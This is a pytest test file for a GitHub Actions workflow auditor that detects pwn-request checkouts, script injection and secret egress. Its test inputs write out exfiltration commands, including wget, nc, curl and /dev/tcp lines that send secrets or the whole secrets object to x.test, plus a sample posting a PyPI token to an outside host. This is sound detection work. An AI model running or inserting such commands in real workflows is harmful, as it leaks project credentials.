"""The workflows check reads the YAML itself for the three critical hazards, on real shapes.

Expectations are written from the samples (``tests/samples/workflows``) and GitHub's
documentation of each event, not from zizmor: the rules must hold whatever its audits
are called.
"""

from __future__ import annotations

import pytest
from repo_paths import SAMPLES

from cujo_action.schema import (
    WORKFLOW_INJECTION,
    WORKFLOW_SECRET_EGRESS,
    WORKFLOW_UNTRUSTED_CHECKOUT,
)
from cujo_action.workflow.audit import (
    command_words,
    hazards,
    injections,
    pr_sinks,
    secret_egresses,
    untrusted_checkouts,
)
from cujo_action.workflow.parse import Workflow, parse


def sample(name: str) -> Workflow:
    return parse(f".github/workflows/{name}", (SAMPLES / "workflows" / name).read_text())


def flow(steps: str, on: str = "pull_request_target", env: str = "") -> Workflow:
    """A one-job workflow of ``steps`` (YAML list items, indented six spaces)."""
    top = f"env:\n{env}" if env else ""
    return parse(
        ".github/workflows/t.yml",
        f"on: {on}\n{top}jobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n{steps}",
    )


# --------------------------------------------------------------------------- checking out the head


def test_a_pwn_request_checks_out_the_head_in_a_privileged_job() -> None:
    [found] = untrusted_checkouts(sample("pwn-request.yml"))
    assert found.kind == WORKFLOW_UNTRUSTED_CHECKOUT
    assert found.line == 16  # the `ref:` line
    assert "github.event.pull_request.head.sha" in found.detail
    assert "pull_request_target" in found.detail


def test_a_comment_bot_checking_out_refs_pull_n_head_is_one_too_with_its_guard() -> None:
    [found] = untrusted_checkouts(sample("comment-bot.yml"))
    assert found.line == 13
    assert "refs/pull/${{ github.event.issue.number }}/head" in found.detail
    assert "guarded by `if: github.event.issue.pull_request" in found.detail


@pytest.mark.parametrize(
    "run",
    [
        "gh pr checkout ${{ github.event.issue.number }}",
        "git fetch origin pull/${{ github.event.pull_request.number }}/head:pr && git checkout pr",
        "git checkout ${{ github.event.pull_request.head.sha }}",
    ],
)
def test_checking_out_the_head_by_command_is_one_too(run: str) -> None:
    [found] = untrusted_checkouts(flow(f"      - run: {run}\n"))
    assert found.line == 6


def test_checking_out_the_base_or_in_an_unprivileged_workflow_is_not() -> None:
    # pull_request_target checks out the base by default: that is its safe use.
    assert untrusted_checkouts(flow("      - uses: actions/checkout@v4\n")) == []
    head = "      - uses: actions/checkout@v4\n        with: {ref: '${{ github.head_ref }}'}\n"
    assert untrusted_checkouts(flow(head, on="pull_request")) == []
    assert untrusted_checkouts(sample("ci.yml")) == []


# --------------------------------------------------------------------------- injection


def test_the_branch_and_the_title_pasted_into_a_script_are_injections() -> None:
    found = injections(sample("branch-injection.yml"))
    assert [(h.kind, h.line) for h in found] == [(WORKFLOW_INJECTION, 15), (WORKFLOW_INJECTION, 16)]
    assert "`${{ github.head_ref }}`" in found[0].detail
    # Through the job's env: the title all the same.
    assert "through `env.PR_TITLE`" in found[1].detail
    assert "github.event.pull_request.title" in found[1].detail


def test_read_through_the_environment_by_the_shell_is_no_injection() -> None:
    step = sample("branch-injection.yml").steps()[2]
    assert step.ident == "Safe, through the environment"
    assert not any(h.key[3] == step.ident for h in injections(sample("branch-injection.yml")))


def test_a_workflow_run_follow_up_reads_the_runs_branch_and_message() -> None:
    found = injections(sample("after-ci.yml"))
    assert [h.line for h in found] == [13, 14]


def test_a_comment_and_a_dump_of_the_event_are_strangers_text_too() -> None:
    comment = flow("      - run: echo '${{ github.event.comment.body }}'\n", on="issue_comment")
    assert len(injections(comment)) == 1
    script = (
        "      - uses: actions/github-script@v7\n"
        "        with:\n          script: console.log(${{ toJSON(github.event) }})\n"
    )
    [found] = injections(flow(script))
    assert "github-script script" in found.detail


def test_the_same_contexts_in_an_unprivileged_workflow_are_not_critical() -> None:
    # pull_request from a fork runs without secrets: zizmor's audit still names it.
    assert injections(sample("ci.yml")) == []
    assert injections(flow("      - run: echo ${{ github.head_ref }}\n", on="pull_request")) == []


# --------------------------------------------------------------------------- secrets sent away


def test_ghostaction_posts_a_secret_to_a_server() -> None:
    [found] = secret_egresses(sample("ghostaction.yml"))
    assert found.kind == WORKFLOW_SECRET_EGRESS
    assert found.line == 16
    assert "PYPI_API_TOKEN" in found.detail
    assert "curl to bold-dhawan.45-139-104-115.plesk.page" in found.detail


@pytest.mark.parametrize(
    ("step", "secret"),
    [
        ("      - run: wget --post-data=k=${{ secrets.AWS_KEY }} http://x.test\n", "AWS_KEY"),
        (
            "      - env: {T: '${{ secrets.NPM_TOKEN }}'}\n        run: nc x.test 80 <<< \"$T\"\n",
            "NPM_TOKEN",
        ),
        (
            "      - env: {T: '${{ secrets.NPM_TOKEN }}'}\n        run: env | curl -d @- x.test\n",
            "NPM_TOKEN",
        ),
        ("      - run: curl -d '${{ toJSON(secrets) }}' https://x.test\n", "every secret"),
        ("      - run: curl -H 'token ${{ github.token }}' https://x.test\n", "GITHUB_TOKEN"),
        ("      - run: echo ${{ secrets.K }} > /dev/tcp/x.test/80\n", "K"),
    ],
)
def test_a_secret_handed_to_a_sender_is_egress_however_it_gets_there(
    step: str, secret: str
) -> None:
    [found] = secret_egresses(flow(step, on="push"))
    assert secret in found.detail


def test_the_jobs_token_to_github_and_a_secret_to_its_own_tool_are_not() -> None:
    assert secret_egresses(sample("release.yml")) == []
    # The secret is written where the tool reads it; nothing sends it by itself.
    assert secret_egresses(flow("      - run: echo ${{ secrets.K }} >> ~/.npmrc\n")) == []
    # A nearer env: names the variable something else: no secret is read there.
    step = '      - env: {T: plain}\n        run: curl -d "$T" https://x.test\n'
    assert secret_egresses(flow(step, env="  T: ${{ secrets.K }}\n")) == []


def test_the_command_a_line_runs_is_found_behind_prefixes() -> None:
    assert command_words("sudo -E FOO=1 curl x | xargs -I{} wget {}") == ["curl", "wget"]
    assert command_words("echo $(/usr/bin/nc -z x 1) && true") == ["echo", "nc", "true"]


# ------------------------------------------------------------------ what base and head share


def test_a_hazards_key_holds_when_lines_move() -> None:
    text = (SAMPLES / "workflows" / "pwn-request.yml").read_text()
    moved = parse(".github/workflows/pwn-request.yml", "# a comment\n\n" + text)
    before = hazards(sample("pwn-request.yml"))
    after = hazards(moved)
    assert [h.key for h in before] == [h.key for h in after]
    assert [h.line + 2 for h in before] == [h.line for h in after]


def test_an_ordinary_ci_has_no_hazard() -> None:
    assert hazards(sample("ci.yml")) == []
    assert hazards(sample("release.yml")) == []


# ------------------------------------------------------------------ the pull request's text


def test_sinks_say_which_text_of_the_pull_request_and_how_the_shell_reads_it() -> None:
    sinks = pr_sinks(sample("branch-injection.yml"))
    assert [(s.line, sorted(s.carries), s.context) for s in sinks] == [
        (15, ["branch"], "double"),
        (16, ["title"], "double"),
    ]
    follow_up = pr_sinks(sample("after-ci.yml"))
    assert [(s.line, sorted(s.carries), s.context) for s in follow_up] == [
        (13, ["branch"], "double"),
        (14, ["commits"], "bare"),
    ]
    # Only privileged workflows read a stranger's pull request with secrets at hand.
    assert pr_sinks(sample("ci.yml")) == []
